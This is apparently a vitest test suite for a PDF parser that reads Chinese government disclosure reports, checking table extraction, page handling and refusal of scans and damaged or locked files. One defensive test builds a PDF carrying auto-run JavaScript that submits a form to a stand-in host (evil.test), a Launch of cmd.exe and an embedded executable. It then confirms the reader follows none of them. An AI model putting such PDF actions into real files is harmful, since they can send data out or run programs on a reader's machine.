import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { isRefusal } from '../../../src/intake/refusal'
import type { Doc } from '../../../src/intake/report/doc'
import { fromPdf } from '../../../src/intake/report/fromPdf'
import { at, bringCMap, pdf, rule, ruledTable } from './pdf'

const open = (bytes: Uint8Array) => fromPdf(bytes, { bringCMap })

async function read(bytes: Uint8Array): Promise<Doc> {
  const doc = await open(bytes)
  if (isRefusal(doc)) throw new Error(`refused: ${doc.issue.code} ${doc.issue.detail}`)
  return doc
}

async function code(bytes: Uint8Array): Promise<string> {
  const doc = await open(bytes)
  return isRefusal(doc) ? `${doc.issue.code} ${doc.issue.detail}`.trim() : 'read'
}

function shape(doc: Doc) {
  return doc.blocks.map(block =>
    block.kind === 'line' ? block.text : block.rows.map(row => row.map(cell => cell?.text ?? null)),
  )
}

const TITLE = '甲镇人民政府2024年政府信息公开工作年度报告'
const title = at(150, 800, TITLE, 14)
const WIDTHS = [100, 50, 50, 50]

describe('ruled tables', () => {
  const rows = [
    [{ text: '信息\n内容', rows: 2 }, { text: '申请人情况', columns: 2 }, null, { text: '总计', rows: 2 }],
    [null, '自然人', '商业\n企业', null],
    ['规章', '0', '', '3 件'],
  ]
  const expected = [
    TITLE,
    [
      ['信息\n内容', '申请人情况', null, '总计'],
      [null, '自然人', '商业\n企业', null],
      ['规章', '0', '', '3 件'],
    ],
  ]

  test.each([
    ['drawn', false],
    ['filled', true],
  ])('%s lines part the cells; spans are expanded, blank cells stay', async (_, filled) => {
    expect(shape(await read(pdf([title + ruledTable(50, 700, WIDTHS, rows, { filled })])))).toEqual(expected)
  })

  test('a page turned by the file is read as it is seen', async () => {
    const content = `0 1 -1 0 595 0 cm\n${title}${ruledTable(50, 550, WIDTHS, rows)}`.replace(
      '150 800',
      '150 580',
    )
    const doc = await read(pdf([content], { page: '/Rotate 90 /MediaBox [0 0 595 842]' }))
    expect(shape(doc)).toEqual(expected)
  })

  test('a table open at its sides keeps its outer columns', async () => {
    const lines =
      [600, 640, 680].map(y => rule(50, y, 350, y)).join('') +
      rule(150, 600, 150, 680) +
      rule(250, 600, 250, 680)
    const text =
      at(60, 655, '规章') + at(160, 655, '1') + at(260, 655, '2') + at(60, 615, '许可') + at(260, 615, '4')
    expect(shape(await read(pdf([title + lines + text])))).toEqual([
      TITLE,
      [
        ['规章', '1', '2'],
        ['许可', '', '4'],
      ],
    ])
  })

  test('figures written through a rule are never put into one cell beside a blank one', async () => {
    const table = ruledTable(50, 700, [100, 20, 20], [['规章', '', '']])
    const apart = at(152, 690, '12   34', 10)
    expect(shape(await read(pdf([title + table + apart])))[1]).toEqual([['规章', '12', '34']])
    const together = at(152, 690, '123456', 10)
    expect(shape(await read(pdf([title + table + together])))[1]).toEqual([['规章', '123456', null]])
  })

  test('text drawn twice to look bold is read once', async () => {
    const twice = ruledTable(50, 700, [100, 50], [['规章', '']]) + at(160, 690, '22') + at(160.3, 690, '22')
    expect(shape(await read(pdf([title + twice])))[1]).toEqual([['规章', '22']])
  })

  test('a frame around text is no table, an underline parts nothing', async () => {
    const frame =
      rule(50, 600, 300, 600) + rule(50, 700, 300, 700) + rule(50, 600, 50, 700) + rule(300, 600, 300, 700)
    const content = title + frame + at(60, 650, '框里的字') + rule(60, 648, 100, 648)
    expect(shape(await read(pdf([content])))).toEqual([TITLE, '框里的字'])
  })

  test('any table gives back its cells', async () => {
    const cell = fc.constantFrom('', '0', '12', '—', '规章', '增3', '4859033元')
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.array(cell, { minLength: 4, maxLength: 4 }), { minLength: 2, maxLength: 6 }),
        fc.boolean(),
        async (rows, filled) => {
          fc.pre(rows.some(row => row.some(text => text !== '')))
          const doc = await read(pdf([title + ruledTable(50, 700, WIDTHS, rows, { filled })]))
          expect(shape(doc)).toEqual([TITLE, rows])
        },
      ),
      { numRuns: 20 },
    )
  })
})

describe('several pages', () => {
  const head = ['信息内容', '本年', '废止', '有效']

  test('a table goes on over the page, its head once, page numbers apart', async () => {
    const one = title + ruledTable(50, 200, WIDTHS, [head, ['规章', '1', '2', '3']]) + at(290, 30, '- 1 -')
    const two =
      ruledTable(50, 780, WIDTHS, [head, ['许可', '4', '', '6']]) + at(290, 30, '- 2 -') + at(60, 400, '完')
    const doc = await read(pdf([one, two]))
    expect(shape(doc)).toEqual([TITLE, [head, ['规章', '1', '2', '3'], ['许可', '4', '', '6']], '完'])
    expect(doc.text).toContain('- 1 -')
  })

  test('a row of figures like the one above it is kept', async () => {
    const rows = [['规章', '1', '2', '3']]
    const doc = await read(
      pdf([title + ruledTable(50, 200, WIDTHS, rows), ruledTable(50, 780, WIDTHS, rows)]),
    )
    expect(shape(doc)[1]).toEqual([...rows, ...rows])
  })

  test('a table with other columns is another table', async () => {
    const one = title + ruledTable(50, 200, WIDTHS, [['规章', '1', '2', '3']])
    const two = ruledTable(50, 780, [100, 50], [['许可', '4']])
    expect(shape(await read(pdf([one, two]))).slice(1)).toEqual([[['规章', '1', '2', '3']], [['许可', '4']]])
  })

  test('heads that are repeated on every page are no text of the report; a figure in the margin is', async () => {
    const pages = [1, 2, 3].map(n => at(60, 810, '甲镇公报') + at(60, 500, `正文第${n}段的内容写在这里`))
    const doc = await read(pdf([...pages, at(60, 500, '行政许可') + at(160, 30, '77')]))
    expect(shape(doc)).toEqual([1, 2, 3].map(n => `正文第${n}段的内容写在这里`).concat('行政许可', '77'))
  })

  test('a paragraph is one line, also over the page; headings stay alone', async () => {
    const full = '政'.repeat(40)
    const line = (y: number, text: string, x = 50) => at(x, y, text, 10)
    const one = line(780, '一、总体情况') + line(760, `新${'收'.repeat(37)}申`, 70) + line(40, full)
    const two = line(780, '请共3件') + line(760, full) + line(740, '二、主动公开')
    expect(shape(await read(pdf([one, two])))).toEqual([
      '一、总体情况',
      `新${'收'.repeat(37)}申`,
      `${full}请共3件`,
      full,
      '二、主动公开',
    ])
  })
})

test('without rules what stands apart is parted', async () => {
  const doc = await read(pdf([title + at(60, 500, '行政许可') + at(160, 500, '12') + at(220, 500, '3')]))
  expect(shape(doc)).toEqual([TITLE, '行政许可\t12\t3'])
})

test('radicals that fonts give for characters are the characters', async () => {
  const doc = await read(pdf([`${title}BT /F1 10 Tf 60 500 Td <6ca1> Tj ET\n`]))
  expect(shape(doc)).toEqual([TITLE, '没'])
})

test('places are where the text stands', async () => {
  const doc = await read(pdf([title + ruledTable(50, 700, WIDTHS, [['规\n章', '', '2', '3']])]))
  const all = doc.blocks.flatMap(block => (block.kind === 'line' ? [block] : block.rows.flat()))
  expect(all.length).toBe(5)
  for (const one of all) if (one) expect(doc.text.slice(one.place.from, one.place.to)).toBe(one.text)
})

describe('what is not read', () => {
  test('pages without text, or with a mark alone, are a scan', async () => {
    expect(await code(pdf(['', '']))).toBe('document-scan')
    expect(await code(pdf([at(60, 60, '扫描全能王')]))).toBe('document-scan')
  })

  test('text that is not to be seen, below a picture, is not read', async () => {
    const hidden = ruledTable(50, 700, WIDTHS, [['规章', '1', '2', '3']]).replaceAll('BT ', 'BT 3 Tr ')
    expect(await code(pdf([title.replace('BT ', 'BT 3 Tr ') + hidden]))).toBe('document-scan recognised')
  })

  test('a file that is cut off or damaged is refused, never half read', async () => {
    const bytes = pdf([title, title])
    for (const part of [0.1, 0.5, 0.9, 0.99]) {
      expect(await code(bytes.subarray(0, Math.floor(part * bytes.length)))).toBe('document-damaged pdf cut')
    }
    expect(await code(new TextEncoder().encode('%PDF-1.7\nnothing of a PDF\n%%EOF\n'))).toBe(
      'document-damaged pdf',
    )
  })

  test('a file with a password', async () => {
    const secret = 'ab'.repeat(32)
    const trailer = `/Encrypt << /Filter /Standard /V 1 /R 2 /O <${secret}> /U <${secret}> /P -4 >> /ID [<00> <00>]`
    expect(await code(pdf([title], { trailer }))).toBe('document-locked pdf')
  })

  test('more pages than a report can have', async () => {
    expect(await code(pdf(new Array(301).fill('')))).toMatch(/^document-long/)
  })

  test('tables of characters that do not arrive are told, not left out', async () => {
    const doc = await fromPdf(pdf([title]), { bringCMap: () => Promise.reject(new Error('offline')) })
    expect(isRefusal(doc) && doc.issue.code).toBe('document-reader-missing')
  })
})

test('scripts, attached files, launched programs, forms and links are not followed', async () => {
  const action = '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://evil.test/"\\)) >>'
  const bytes = pdf([title], {
    catalog: `/OpenAction ${action} /AA << /WC ${action} >> /Names << /JavaScript << /Names [(a) ${action}] >> /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >> /AcroForm << /Fields [8 0 R] /XFA (http://evil.test) >>`,
    page: '/Annots [7 0 R 8 0 R] /AA << /O << /S /Launch /F (cmd.exe) >> >>',
    objects: [
      '<< /Type /Filespec /F (x.exe) /EF << /F 9 0 R >> >>',
      '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (http://evil.test/) >> >>',
      '<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (99) /Rect [0 0 10 10] >>',
      '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
    ],
  })
  const asked: unknown[] = []
  const own = globalThis.fetch
  globalThis.fetch = (async (url: unknown) => {
    asked.push(url)
    throw new Error('no network')
  }) as typeof fetch
  try {
    expect(shape(await read(bytes))).toEqual([TITLE])
  } finally {
    globalThis.fetch = own
  }
  expect(asked).toEqual([])
})

const REAL = join(import.meta.dirname, '../../../../shared/real/raw')
const there = existsSync(join(REAL, 'huaian_2024.pdf'))
if (!there)
  console.warn('skipped: the real PDF is too large for the repository and stands beside it, not here')

describe.skipIf(!there)('a real report', () => {
  const doc = there ? read(new Uint8Array(readFileSync(join(REAL, 'huaian_2024.pdf')))) : null

  test('has every sign of its layout text', async () => {
    const signs = (text: string) => [...text.replace(/\s/g, '')].sort().join('')
    const layout = readFileSync(join(REAL, 'huaian_2024_pdf_layout.txt'), 'utf8')
    expect(signs((await doc)?.text ?? '')).toBe(signs(layout))
  })

  test('has its tables, the long one joined over two pages', async () => {
    const tables = shape((await doc) ?? { text: '', blocks: [] }).filter(block => typeof block !== 'string')
    expect(tables.map(rows => rows.length)).toEqual([8, 6, 28, 4])
    const figures = tables[2]?.slice(3).map(row => row.slice(3).join(' '))
    expect(figures?.[0]).toBe('3001 53 0 0 61 4 3119')
    expect(figures?.at(-2)).toBe('2932 53 0 0 61 4 3050')
    expect(tables[3]?.at(-1)).toEqual('72 64 178 37 351 13 4 8 1 26 12 1 1 6 20'.split(' '))
  })
})
